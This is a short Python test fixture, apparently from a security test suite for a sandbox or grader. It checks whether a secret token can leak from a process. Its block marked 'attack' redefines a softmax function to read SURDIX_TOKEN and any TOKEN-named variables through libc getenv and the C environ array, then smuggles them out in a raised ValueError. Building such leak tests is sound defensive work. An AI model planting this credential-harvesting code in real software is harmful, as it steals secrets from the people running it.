"""Asks the C library, and its `environ` array, for what Python may have dropped from `os.environ`.

Must happen: the token was never in this process's environment; the check is `error`.

off: naive
seen: leak
"""

import ctypes

import numpy as np


def softmax(logits):
    return np.zeros_like(logits)


# --- attack
def softmax(logits):
    libc = ctypes.CDLL(None)
    libc.getenv.restype = ctypes.c_char_p
    found = [libc.getenv(b"SURDIX_TOKEN")]
    block = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
    for index in range(200):
        if not block or block[index] is None:
            break
        found.append(block[index] if b"TOKEN" in block[index] else None)
    raise ValueError(str([item for item in found if item]))


# --- end
